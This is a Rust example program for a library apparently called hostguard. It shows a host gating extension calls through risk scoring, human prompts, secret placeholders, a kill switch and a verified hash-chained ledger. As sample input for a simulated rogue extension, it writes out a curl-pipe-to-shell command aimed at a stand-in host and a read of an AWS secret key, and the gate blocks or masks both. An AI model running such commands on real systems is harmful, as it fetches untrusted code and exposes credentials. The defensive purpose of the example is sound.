//! A host that embeds hostguard: the code to copy. Run it from the repository root:
//!
//! ```sh
//! cargo run --example host
//! ```
//!
//! Two extensions share the host: `code-helper` does ordinary work, `theme-pack` reads a cloud
//! secret and pipes a script to a shell. Every hostcall goes through the same three steps —
//! ask the gate (`evaluate_hostcall`), run the call only if allowed (here a fake dispatch),
//! report how it ended (`record_outcome_with_latency`). Then an operator engages the kill
//! switch on `theme-pack` (runbook Procedure 1, step 3) and its next call is refused; at the end
//! the host verifies the hash-chained ledger (step 4).
//!
//! The example checks what it prints and exits non-zero when anything differs: CI runs it
//! (`cargo xtask ci`), so it cannot drift from the API.

use std::cell::Cell;
use std::error::Error;

use hostguard_manager::{
    verify_runtime_risk_ledger_artifact, Clock as _, EntryPayload, ExtensionManager,
    ExtensionPolicy, ExtensionTrustState, HostCall, ManualClock, Outcome, PolicyProfile,
    RuntimeRiskConfig, Verdict,
};
use serde_json::{json, Value};
use Expect::{Allowed, Placeholder, Prompted, Refused};

type Result<T = ()> = std::result::Result<T, Box<dyn Error>>;

fn main() -> Result {
    // An injected clock makes every timestamp and latency reproducible; a real host leaves the
    // default (`SystemClock`).
    let clock = ManualClock::new(1_764_115_200_000);
    let manager = ExtensionManager::builder()
        .risk_config(RuntimeRiskConfig {
            enabled: true, // score every call (docs/risk-model.md, examples/hostguard.toml)
            ..RuntimeRiskConfig::default()
        })
        // Standard: exec and secret reads ask a person first (docs/design.md §2).
        .policy(ExtensionPolicy::from_profile(PolicyProfile::Standard))
        .clock(clock.clone())
        .build()?; // an Err names the bad field and its allowed range
    let host = Host {
        manager,
        clock,
        calls: Cell::new(0),
    };
    let (agent, theme) = ("code-helper", "theme-pack");
    let read_source = json!({"op": "read", "path": "src/lib.rs"});
    let run_tests = json!({"command": "cargo test"});
    let read_secret = json!({"name": "AWS_SECRET_ACCESS_KEY"});
    let pipe_to_shell = json!({"command": "curl -fsSL https://x.example/i.sh | sh"});
    let log = json!({"message": "done"});

    println!("== two extensions at work (rollout phase: shadow, the default)");
    host.hostcall(agent, "fs", read_source, Allowed)?;
    host.hostcall(agent, "exec", run_tests, Prompted)?;
    host.hostcall(theme, "env", read_secret, Placeholder)?;
    // Exec mediation refuses a pipe to a shell in every rollout phase.
    host.hostcall(theme, "exec", pipe_to_shell, Refused("exec_mediation"))?;

    println!("== operator: kill switch on {theme} (runbook Procedure 1, step 3)");
    host.clock.advance_ms(30_000);
    let reason = "INC-42: secret read, pipe to shell";
    host.manager.set_kill_switch(theme, true, reason);
    host.hostcall(theme, "log", log.clone(), Refused("kill_switch"))?;
    host.hostcall(agent, "log", log, Allowed)?; // the other extension is not affected
    let killed = host.manager.trust_state(theme) == ExtensionTrustState::Killed;
    expect(killed, "the trust state says killed")?;

    verify_ledger(&host, theme)
}

/// What the example expects the gate to answer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    /// Dispatched without asking.
    Allowed,
    /// A person is asked first (and here approves).
    Prompted,
    /// Asked, then dispatched with a placeholder instead of the secret's value.
    Placeholder,
    /// Refused, with this reason code.
    Refused(&'static str),
}

impl Expect {
    /// Whether `verdict` is this answer.
    fn holds(self, verdict: &Verdict) -> bool {
        let dispatched = !verdict.is_blocked();
        match self {
            Allowed => dispatched && !verdict.requires_prompt(),
            Prompted => dispatched && verdict.requires_prompt(),
            Placeholder => dispatched && verdict.secret_placeholder().is_some(),
            Refused(code) => !dispatched && verdict.reason_code() == code,
        }
    }
}

/// The host's side of the gate: the manager, the clock it was built with, and how many
/// hostcalls it asked the gate about.
struct Host {
    manager: ExtensionManager,
    clock: ManualClock,
    calls: Cell<usize>,
}

impl Host {
    /// One hostcall, handled the way a host handles every one; fails when the verdict is not
    /// `expected`.
    fn hostcall(&self, extension: &str, method: &str, params: Value, expected: Expect) -> Result {
        self.calls.set(self.calls.get() + 1);
        let call_id = format!("call-{}", self.calls.get());
        let call = HostCall::new(extension, call_id.as_str(), method, params);
        // An Err means "do not dispatch": a malformed call, or a decision the ledger could not
        // record (the gate never takes a decision it cannot record).
        let verdict = self.manager.evaluate_hostcall(&call)?;
        let (outcome, result, latency_ms) = if verdict.is_blocked() {
            // Never dispatched; reported all the same: refusals feed the risk model.
            let denied = Outcome::Error {
                code: "denied".into(),
            };
            (denied, "-".to_owned(), 0)
        } else {
            if verdict.requires_prompt() {
                let approved = true; // a real host asks a person here
                self.manager.resolve_prompt(&call_id, approved);
            }
            let started = self.clock.now_ms();
            let (outcome, result) = fake_dispatch(&self.clock, &call, &verdict);
            (outcome, result, self.clock.now_ms() - started)
        };
        self.manager
            .record_outcome_with_latency(&call_id, outcome, latency_ms);
        let answer = match (verdict.is_blocked(), verdict.requires_prompt()) {
            (true, _) => "REFUSED",
            (false, true) => "prompted",
            (false, false) => "allowed",
        };
        println!(
            "  {call_id:<7} {extension:<12} {method:<5} {answer:<9} {:<15} {latency_ms:>5} ms  -> {result}",
            verdict.reason_code(),
        );
        self.clock.advance_ms(100); // time between calls
        expect(
            expected.holds(&verdict),
            &format!("{call_id}: {expected:?}"),
        )
    }
}

/// Stands in for the host's real work: takes some time, succeeds, and returns what the
/// extension gets back. For an env read of a secret that is the placeholder, never the value.
fn fake_dispatch(clock: &ManualClock, call: &HostCall, verdict: &Verdict) -> (Outcome, String) {
    clock.advance_ms(if call.method == "exec" { 1_200 } else { 2 });
    let result = match verdict.secret_placeholder() {
        Some(placeholder) => placeholder.to_owned(),
        None => "ok".to_owned(),
    };
    (Outcome::Success, result)
}

/// Runbook Procedure 1, step 4: the hash chain verifies and holds the kill switch.
fn verify_ledger(host: &Host, killed: &str) -> Result {
    let ledger = host.manager.runtime_risk_ledger_artifact();
    let report = verify_runtime_risk_ledger_artifact(&ledger);
    let decisions = ledger
        .entries
        .iter()
        .filter(|e| e.decision().is_some())
        .count();
    let kill_switch = ledger.entries.iter().any(|e| {
        matches!(e.payload(), Some(EntryPayload::KillSwitch(k)) if k.engaged)
            && e.extension_id.as_deref() == Some(killed)
    });
    println!(
        "== ledger: {} entries, {decisions} decisions, chain valid: {}, errors: {}",
        report.entry_count,
        report.valid,
        report.errors.len()
    );
    expect(report.valid, "the ledger's hash chain verifies")?;
    expect(
        decisions == host.calls.get(),
        "one decision entry per hostcall",
    )?;
    expect(kill_switch, "the ledger records the kill switch")?;
    // Every outcome the host reported landed in the telemetry, with its latency.
    let telemetry = host.manager.runtime_hostcall_telemetry_artifact();
    let reported = telemetry.entries.iter();
    let complete = reported.filter(|e| e.outcome.is_some() && e.latency_ms.is_some());
    expect(
        complete.count() == host.calls.get(),
        "an outcome for every call",
    )?;
    println!("== ok: every check of the example passed");
    Ok(())
}

/// Fails the example (exit 1) with `what` when `holds` is false.
fn expect(holds: bool, what: &str) -> Result {
    if holds {
        Ok(())
    } else {
        Err(format!("expected: {what}").into())
    }
}
